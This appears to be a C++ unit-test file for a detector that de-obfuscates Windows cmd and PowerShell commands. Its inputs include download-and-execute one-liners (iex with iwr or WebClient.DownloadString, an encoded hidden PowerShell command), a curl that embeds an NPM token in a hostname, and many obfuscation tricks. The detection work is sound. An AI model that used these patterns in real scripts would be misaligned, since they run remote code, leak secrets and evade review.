#include <gtest/gtest.h>

#include "base/text.h"
#include "facts/code/shell/shell_testing.h"

namespace assay::code {
namespace {

const std::string unknown(hole);

TEST(Cmd, carets_and_quotes_are_removed) {
  EXPECT_EQ(cmd("c^u^rl \"a b\" -d \"x\\\"y\" & d^&e"), "<curl> <a b> <-d> <x\"y>\n<d&e>\n");
}

TEST(Cmd, variables_set_in_the_text_are_expanded) {
  EXPECT_EQ(cmd("set a=cu&& set \"b=rl\"\r\n%a%%b% u\r\n"),
            "<set> <a=cu>\n<set> <b=rl>\n<curl> <u>\n");
  EXPECT_EQ(cmd("set z=abcdef\n%z:~0,1%%z:~-2,1%%z:c=q%"), "<set> <z=abcdef>\n<aeabqdef>\n");
}

TEST(Cmd, delayed_expansion_happens_where_it_runs) {
  EXPECT_EQ(cmd("cmd /v:on /c \"set a=ca&&!a!lc\""),
            "<cmd> </v:on> </c> <set a=ca&&!a!lc>\n.<set> <a=ca>\n.<calc>\n");
}

TEST(Cmd, start_and_call_are_taken_off) {
  EXPECT_EQ(cmd("start \"\" /b /min node x.js"), "<node> <x.js> quiet background\n");
  EXPECT_EQ(cmd("@call curl u"), "<curl> <u>\n");
}

TEST(Cmd, comspec_is_cmd) {
  EXPECT_EQ(cmd("%ComSpec% /d /s /c \"curl u\""),
            "<cmd.exe> </d> </s> </c> <curl u>\n.<curl> <u>\n");
  EXPECT_EQ(posix("%COMSPEC% /c curl u"), "<cmd.exe> </c> <curl> <u>\n.<curl> <u>\n");
}

TEST(Cmd, conditions_and_blocks_lead_to_their_commands) {
  EXPECT_EQ(cmd("if not exist \"a b\" (curl u) else (\n del /q x\n)\nif \"%1\"==\"x\" ls"),
            "<curl> <u>\n<del> </q> <x>\n<ls>\n");
}

TEST(Cmd, the_output_of_a_loop_command_is_followed) {
  EXPECT_EQ(cmd("for /f \"tokens=*\" %%i in ('curl u') do run %%i"),
            ".<curl> <u>\n<run> <" + unknown + "> sub=0\n");
}

TEST(Cmd, redirects_pipes_and_comments_are_understood) {
  EXPECT_EQ(cmd("rem curl no\n:: no\n:label\na>nul 2>&1 & b>>f | c\n"),
            "<a> quiet no-errors\n<b> to=f\n<c> from=1\n");
}

TEST(Cmd, environment_variables_are_named) {
  EXPECT_EQ(cmd("curl %NPM_TOKEN%.h.example.test"),
            "<curl> <" + unknown + ".h.example.test> $NPM_TOKEN\n");
}

TEST(PowerShell, encoded_commands_are_decoded_and_opened) {
  // iex (iwr http://x)
  EXPECT_EQ(
      posix("powershell -NoP -W Hidden -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA"),
      "<powershell> <-NoP> <-W> <Hidden> <-enc> "
      "<aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA> quiet\n"
      ".<invoke-expression> <" +
          unknown +
          "> sub=2 quiet\n"
          ".<invoke-webrequest> <http://x> quiet\n");
}

TEST(PowerShell, aliases_are_spelled_out_and_case_does_not_matter) {
  EXPECT_EQ(powershell("IWR u -OutFile c.exe; .\\c.exe"),
            "<invoke-webrequest> <u> <-OutFile> <c.exe>\n<.\\c.exe>\n");
}

TEST(PowerShell, downloads_of_web_clients_are_commands) {
  EXPECT_EQ(powershell("IEX (New-Object Net.WebClient).DownloadString('u')"),
            "<invoke-expression> <" + unknown +
                "> sub=2\n<new-object> <Net.WebClient>\n"
                "<net.webclient.downloadstring> <u> sub=1\n");
  EXPECT_EQ(
      powershell("$w = New-Object System.Net.WebClient\n$w.DownloadFile(\"u\", \"$env:TEMP\\x\")"),
      "<new-object> <System.Net.WebClient>\n"
      "<net.webclient.downloadfile> <u> <" +
          unknown + "\\x> sub=0 $TEMP\n");
  EXPECT_EQ(powershell("[System.IO.File]::WriteAllText('f', (irm u))"),
            "<invoke-restmethod> <u>\n<io.file.writealltext> <f> <" + unknown + "> sub=0\n");
}

TEST(PowerShell, what_is_downloaded_is_followed_through_pipes_properties_and_variables) {
  EXPECT_EQ(powershell("(iwr -useb u).Content | iex"),
            "<invoke-webrequest> <-useb> <u>\n<invoke-expression> from=0 sub=0\n");
  EXPECT_EQ(powershell("$x = irm u; iex $x"),
            "<invoke-restmethod> <u>\n<invoke-expression> <" + unknown + "> sub=0\n");
}

TEST(PowerShell, start_process_is_taken_off) {
  EXPECT_EQ(powershell(
                "Start-Process -FilePath \"node\" -ArgumentList 'x.js','-a b' -WindowStyle Hidden"),
            "<node> <x.js> <-a> <b> quiet background\n");
  EXPECT_EQ(powershell("saps calc"), "<calc> background\n");
}

TEST(PowerShell, strings_are_computed) {
  EXPECT_EQ(powershell("& ('i'+'ex') 'ls'"), "<invoke-expression> <ls>\n.<get-childitem>\n");
  EXPECT_EQ(powershell("iex (\"{1}{0}\" -f 'lc','ca')"), "<invoke-expression> <calc>\n.<calc>\n");
  EXPECT_EQ(powershell("iex (-join ([char[]](99,97,108,99)))"),
            "<invoke-expression> <calc>\n.<calc>\n");
  EXPECT_EQ(powershell("$s='c','l','a','c'; iex ($s[3,2,1,0] -join '')"),
            "<invoke-expression> <calc>\n.<calc>\n");
  EXPECT_EQ(powershell("iex 'cXlc'.Replace('X','a').Replace('lc','lc')"),
            "<invoke-expression> <calc>\n.<calc>\n");
  EXPECT_EQ(powershell("i`e`x ca''lc"), "<invoke-expression> <calc>\n.<calc>\n");
  EXPECT_EQ(powershell("iex ('c-l-c' -replace '-l','al' -replace '-','')"),
            "<invoke-expression> <calc>\n.<calc>\n");
}

TEST(PowerShell, base64_text_is_decoded) {
  EXPECT_EQ(
      powershell("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('Y2FsYw==')) | iex"),
      "<invoke-expression>\n.<calc>\n");
  EXPECT_EQ(powershell("$b=[System.Convert]::FromBase64String('YwBhAGwAYwA=');"
                       "iex ([System.Text.Encoding]::Unicode.GetString($b))"),
            "<invoke-expression> <calc>\n.<calc>\n");
}

TEST(PowerShell, blocks_and_keywords_lead_to_their_commands) {
  EXPECT_EQ(
      powershell("if ($true) { a } else { b }; foreach ($x in c) { d $x }; try { e } catch {}"),
      "<a>\n<b>\n<c>\n<d> <" + unknown + ">\n<e>\n");
  EXPECT_EQ(
      powershell("function F($a) { curl.exe u }\nStart-Job -ScriptBlock { iwr u }"),
      "<curl.exe> <u>\n<start-job> <-ScriptBlock> <" + unknown + ">\n.<invoke-webrequest> <u>\n");
}

TEST(PowerShell, comments_here_strings_and_hidden_output_are_understood) {
  EXPECT_EQ(powershell("<# iwr no #> a # no\nSet-Content f @'\nx 'y'\n'@\nb > $null; c 2>$null"),
            "<a>\n<set-content> <f> <x 'y'> to=f\n<b> quiet\n<c> no-errors\n");
}

TEST(PowerShell, commands_through_cmd_are_opened) {
  EXPECT_EQ(powershell("cmd.exe /c \"curl u & calc\""),
            "<cmd.exe> </c> <curl u & calc>\n.<curl> <u>\n.<calc>\n");
}

}  // namespace
}  // namespace assay::code
